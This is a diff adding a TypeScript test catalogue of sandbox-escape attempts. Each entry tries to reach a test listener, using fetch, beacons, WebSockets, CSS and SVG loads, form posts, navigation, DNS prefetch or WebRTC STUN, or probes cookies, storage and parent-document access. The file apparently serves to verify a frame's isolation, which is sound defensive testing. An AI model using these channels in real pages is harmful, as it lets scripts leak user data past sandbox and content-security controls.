@@ -1,0 +1,367 @@
+/**
+ * Ways out that a program may try. Each is one function, run as it stands: in a worker of the frame, in the frame's document
+ * (as page programs will be), and in an unprotected page, where every one of them has to succeed.
+ */
+export interface Target {
+	/** Where the listener hears requests, with the attack's own path. */
+	url: string;
+	socket: string;
+	/** A name of the attack's own: looking it up is what leaks. */
+	name: string;
+	/** Where the listener hears datagrams. */
+	stun: string;
+}
+
+export interface Attack {
+	id: string;
+	/** What shows that it got out: a request, a name that was looked up, a datagram, or its own word that it got in. */
+	sign: 'request' | 'name' | 'datagram' | 'entry';
+	from: readonly ('worker' | 'document')[];
+	/** It takes the document away, so that it needs one of its own. */
+	leaves?: true;
+	run(target: Target): unknown;
+}
+
+const BOTH = ['worker', 'document'] as const;
+const DOCUMENT = ['document'] as const;
+const WORKER = ['worker'] as const;
+
+type Out = Pick<Attack, 'sign' | 'from'>;
+const asks: Out = { sign: 'request', from: DOCUMENT };
+const asksAnywhere: Out = { sign: 'request', from: BOTH };
+const entersFromDocument: Out = { sign: 'entry', from: DOCUMENT };
+const entersAnywhere: Out = { sign: 'entry', from: BOTH };
+
+export const attacks: readonly Attack[] = [
+	{ id: 'fetch', ...asksAnywhere, run: (t) => fetch(t.url, { mode: 'no-cors' }) },
+	{
+		id: 'fetch-keepalive',
+		...asksAnywhere,
+		run: (t) => fetch(t.url, { mode: 'no-cors', keepalive: true, method: 'POST' })
+	},
+	{
+		id: 'xhr',
+		...asksAnywhere,
+		run: (t) => {
+			const request = new XMLHttpRequest();
+			request.open('GET', t.url);
+			request.send();
+		}
+	},
+	{ id: 'websocket', ...asksAnywhere, run: (t) => void new WebSocket(t.socket) },
+	{ id: 'eventsource', ...asksAnywhere, run: (t) => void new EventSource(t.url) },
+	{ id: 'beacon', ...asks, run: (t) => navigator.sendBeacon(t.url, 'x') },
+	{ id: 'import', ...asksAnywhere, run: (t) => new Function('url', 'return import(url)')(t.url) as unknown },
+	{
+		id: 'import-scripts',
+		sign: 'request',
+		from: WORKER,
+		run: (t) => new Function('url', 'importScripts(url)')(t.url) as unknown
+	},
+	{
+		id: 'worker',
+		...asksAnywhere,
+		run: (t) => void new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(t.url)})`])))
+	},
+	{
+		id: 'worker-fetch',
+		...asksAnywhere,
+		run: (t) => void new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(t.url)}, { mode: 'no-cors' })`])))
+	},
+	{ id: 'font-face', ...asksAnywhere, run: (t) => new FontFace('x', `url(${t.url})`).load() },
+	{
+		id: 'ping',
+		...asks,
+		run: (t) => {
+			const link = document.createElement('a');
+			link.href = '#here';
+			link.setAttribute('ping', t.url);
+			document.body.append(link);
+			link.click();
+		}
+	},
+	{ id: 'image', ...asks, run: (t) => void (new Image().src = t.url) },
+	{
+		id: 'image-srcset',
+		...asks,
+		run: (t) => {
+			const image = new Image();
+			image.srcset = `${t.url} 1x`;
+			document.body.append(image);
+		}
+	},
+	{
+		id: 'svg-image',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<svg><image href="${t.url}"/></svg>`)
+	},
+	{
+		id: 'svg-use',
+		...asks,
+		run: (t) =>
+			document.body.insertAdjacentHTML(
+				'beforeend',
+				`<svg><filter id="f"><feImage href="${t.url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`
+			)
+	},
+	{
+		id: 'css-background',
+		...asks,
+		run: (t) =>
+			document.body.insertAdjacentHTML(
+				'beforeend',
+				`<div style="width:9px;height:9px;background:url(${t.url})">x</div>`
+			)
+	},
+	{
+		id: 'css-import',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<style>@import url(${t.url});</style>`)
+	},
+	{
+		id: 'css-font',
+		...asks,
+		run: (t) =>
+			document.body.insertAdjacentHTML(
+				'beforeend',
+				`<style>@font-face{font-family:leak;src:url(${t.url})}</style><p style="font-family:leak">x</p>`
+			)
+	},
+	{
+		id: 'css-content',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<style>p::before{content:url(${t.url})}</style><p>x</p>`)
+	},
+	{
+		id: 'stylesheet',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${t.url}">`)
+	},
+	{
+		id: 'preload',
+		...asks,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="preload" as="image" href="${t.url}">`)
+	},
+	{
+		id: 'prefetch',
+		...asks,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${t.url}">`)
+	},
+	{
+		id: 'modulepreload',
+		...asks,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="modulepreload" href="${t.url}">`)
+	},
+	{
+		id: 'video',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<video preload="auto" src="${t.url}"></video>`)
+	},
+	{
+		id: 'video-poster',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<video poster="${t.url}"></video>`)
+	},
+	{ id: 'audio', ...asks, run: (t) => void new Audio(t.url).load() },
+	{
+		id: 'object',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<object data="${t.url}"></object>`)
+	},
+	{ id: 'embed', ...asks, run: (t) => document.body.insertAdjacentHTML('beforeend', `<embed src="${t.url}">`) },
+	{
+		id: 'iframe',
+		...asks,
+		run: (t) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${t.url}"></iframe>`)
+	},
+	{
+		id: 'script',
+		...asks,
+		run: (t) => {
+			const script = document.createElement('script');
+			script.src = t.url;
+			document.body.append(script);
+		}
+	},
+	{
+		id: 'download',
+		...asks,
+		run: (t) => {
+			const link = document.createElement('a');
+			link.href = t.url;
+			link.download = 'x';
+			document.body.append(link);
+			link.click();
+		}
+	},
+	{ id: 'popup', ...asks, run: (t) => void open(t.url) },
+	{
+		id: 'popup-link',
+		...asks,
+		run: (t) => {
+			const link = document.createElement('a');
+			link.href = t.url;
+			link.target = '_blank';
+			document.body.append(link);
+			link.click();
+		}
+	},
+	{
+		id: 'form',
+		...asks,
+		leaves: true,
+		run: (t) => {
+			document.body.insertAdjacentHTML('beforeend', `<form id="leak" action="${t.url}"></form>`);
+			(document.getElementById('leak') as HTMLFormElement).submit();
+		}
+	},
+	{ id: 'navigate-self', ...asks, leaves: true, run: (t) => void (location.href = t.url) },
+	{ id: 'navigate-replace', ...asks, leaves: true, run: (t) => location.replace(t.url) },
+	{
+		id: 'navigate-link',
+		...asks,
+		leaves: true,
+		run: (t) => {
+			const link = document.createElement('a');
+			link.href = t.url;
+			document.body.append(link);
+			link.click();
+		}
+	},
+	{
+		id: 'meta-refresh',
+		...asks,
+		leaves: true,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${t.url}">`)
+	},
+	{ id: 'navigate-parent', ...asks, leaves: true, run: (t) => void (parent.location.href = t.url) },
+	{ id: 'navigate-top', ...asks, leaves: true, run: (t) => void ((top ?? window).location.href = t.url) },
+	{
+		id: 'nested-srcdoc-fetch',
+		...asks,
+		run: (t) => {
+			const frame = document.createElement('iframe');
+			frame.srcdoc = `<img src="${t.url}">`;
+			document.body.append(frame);
+		}
+	},
+	{
+		id: 'nested-srcdoc-refresh',
+		...asks,
+		run: (t) => {
+			const frame = document.createElement('iframe');
+			frame.srcdoc = `<meta http-equiv="refresh" content="0;url=${t.url}">`;
+			document.body.append(frame);
+		}
+	},
+	{
+		id: 'dns-prefetch',
+		sign: 'name',
+		from: DOCUMENT,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="dns-prefetch" href="http://${t.name}/">`)
+	},
+	{
+		id: 'preconnect',
+		sign: 'name',
+		from: DOCUMENT,
+		run: (t) => document.head.insertAdjacentHTML('beforeend', `<link rel="preconnect" href="http://${t.name}/">`)
+	},
+	{
+		id: 'nested-dns-prefetch',
+		sign: 'name',
+		from: DOCUMENT,
+		run: (t) => {
+			const frame = document.createElement('iframe');
+			frame.srcdoc = `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="http://${t.name}/">`;
+			document.body.append(frame);
+		}
+	},
+	{ id: 'fetch-name', sign: 'name', from: BOTH, run: (t) => fetch(`http://${t.name}/`, { mode: 'no-cors' }) },
+	{
+		id: 'download-name',
+		sign: 'name',
+		from: DOCUMENT,
+		run: (t) => {
+			const link = document.createElement('a');
+			link.href = `http://${t.name}/`;
+			link.download = 'x';
+			document.body.append(link);
+			link.click();
+		}
+	},
+	{
+		id: 'rtc-stun',
+		sign: 'datagram',
+		from: DOCUMENT,
+		run: async (t) => {
+			const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${t.stun}` }] });
+			peer.createDataChannel('x');
+			await peer.setLocalDescription(await peer.createOffer());
+		}
+	},
+	{
+		id: 'nested-rtc-stun',
+		sign: 'datagram',
+		from: DOCUMENT,
+		run: async (t) => {
+			const frame = document.createElement('iframe');
+			frame.srcdoc = '<p>x</p>';
+			document.body.append(frame);
+			await new Promise((resolve) => (frame.onload = resolve));
+			const { RTCPeerConnection: Peer } = frame.contentWindow as unknown as typeof globalThis;
+			const peer = new Peer({ iceServers: [{ urls: `stun:${t.stun}` }] });
+			peer.createDataChannel('x');
+			await peer.setLocalDescription(await peer.createOffer());
+		}
+	},
+	{
+		id: 'nested-script',
+		...entersFromDocument,
+		run: async () => {
+			const frame = document.createElement('iframe');
+			frame.srcdoc = '<script>parent.entered = true</' + 'script>';
+			document.body.append(frame);
+			await new Promise((resolve) => (frame.onload = resolve));
+			return Reflect.get(window, 'entered') === true;
+		}
+	},
+	{
+		id: 'cookie',
+		...entersFromDocument,
+		run: () => {
+			document.cookie = 'x=1';
+			return document.cookie.includes('x=1');
+		}
+	},
+	{
+		id: 'local-storage',
+		...entersFromDocument,
+		run: () => {
+			localStorage.setItem('x', '1');
+			return localStorage.getItem('x') === '1';
+		}
+	},
+	{
+		id: 'indexed-db',
+		...entersAnywhere,
+		run: () =>
+			new Promise((resolve) => {
+				const opening = indexedDB.open('x');
+				opening.onsuccess = () => resolve(true);
+				opening.onerror = () => resolve(false);
+			})
+	},
+	{
+		id: 'parent-document',
+		...entersFromDocument,
+		run: () => typeof parent.document.title === 'string'
+	},
+	{ id: 'top-document', ...entersFromDocument, run: () => typeof (top ?? window).document.title === 'string' },
+	{ id: 'own-origin', ...entersAnywhere, run: () => origin !== 'null' },
+	{
+		id: 'shared-worker',
+		...entersFromDocument,
+		run: () => new SharedWorker(URL.createObjectURL(new Blob(['']))) instanceof SharedWorker && origin !== 'null'
+	},
+	{ id: 'service-worker', ...entersFromDocument, run: () => 'register' in navigator.serviceWorker }
+];
